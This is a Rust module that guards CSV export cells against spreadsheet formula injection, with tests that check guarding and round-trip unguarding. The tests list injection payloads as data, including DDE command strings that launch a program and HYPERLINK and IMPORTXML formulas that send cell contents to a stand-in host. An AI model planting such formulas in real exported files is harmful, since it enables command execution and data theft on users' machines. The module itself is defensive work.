//! Cells of exported tables that a spreadsheet must show and never run (D1).

use std::borrow::Cow;

/// The cell as it goes into a CSV file: with a single quote in front when a spreadsheet would take it for a formula (D1).
///
/// A cell is dangerous when, after any quotes, blanks and unseen characters, it begins with `=`, `+`, `-`, `@` or one of
/// their wide and small variants, or when a control character (tab, CR, LF, NUL …) stands before its first visible one.
/// Negative numbers and telephone numbers are guarded too: they stay readable, a formula does not stay harmless.
///
/// The writer has to quote every cell as well, or a separator inside the text could begin a new, unguarded cell.
pub fn guard(cell: &str) -> Cow<'_, str> {
    if is_dangerous(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// The cell as it was before [`guard`], so that an exported file can be imported again (D1).
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(guarded) if is_dangerous(guarded) => guarded,
        _ => cell,
    }
}

/// A leading single quote is skipped like any other quote: that a guarded cell counts as dangerous itself is what makes
/// [`unguard`] exact for cells which already began with one.
fn is_dangerous(cell: &str) -> bool {
    cell.chars().find(|c| c.is_control() || !is_skipped(*c)).is_some_and(|c| c.is_control() || starts_formula(c))
}

fn is_skipped(c: char) -> bool {
    let is_quote = matches!(c, '\'' | '"' | '`' | '‘' | '’' | '“' | '”' | '„' | '«' | '»' | '＂' | '＇');
    is_quote || c.is_whitespace() || crate::core::invisible::is_invisible(c)
}

fn starts_formula(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@'
        | '＝' | '＋' | '－' | '＠' // full width
        | '﹦' | '﹢' | '﹣' | '﹫' // small
        | '−' | '|' | '%' // minus sign, and what older spreadsheets took for the start of an external call
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn d1_formulas_become_text() {
        for cell in [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Error\")",
            "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!D2",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\0=1+1",
            "\tplain",
            " \rplain",
            " =1+1",
            "\u{A0}=1+1",
            "\u{FEFF}=1+1",
            "\u{200B}=1+1",
            "\"=1+1",
            "'=1+1",
            "' \"=1+1",
            "“=1+1”",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "﹦1",
            "−1",
            "|calc",
            "%0A=1",
            "=",
            "-",
        ] {
            assert_eq!(guard(cell), format!("'{cell}"), "{cell:?}");
            assert_eq!(unguard(&guard(cell)), cell, "{cell:?}");
        }
    }

    #[test]
    fn d1_ordinary_text_stays_as_it_is() {
        for cell in
            ["", "Ana", "ana@example.com", "O'Brien", "'Ana'", "\"Ana\"", "1=1", "a\tb", "3 - 2", "2030-01-01", "日本"]
        {
            assert_eq!(guard(cell), cell);
            assert!(matches!(guard(cell), Cow::Borrowed(_)));
            assert_eq!(unguard(cell), cell);
        }
    }

    proptest! {
        #[test]
        fn d1_what_is_exported_is_imported_unchanged(cell in "['\" \t\r=+@a\\-＝]{0,6}.*") {
            let guarded = guard(&cell);
            prop_assert_eq!(unguard(&guarded), cell.as_str());
        }

        #[test]
        fn d1_no_exported_cell_begins_a_formula(cell in "['\" \t\r=+@a\\-＝]{0,6}.*") {
            let first = guard(&cell).chars().next();
            prop_assert!(!first.is_some_and(|c| c.is_control() || starts_formula(c)));
        }
    }
}
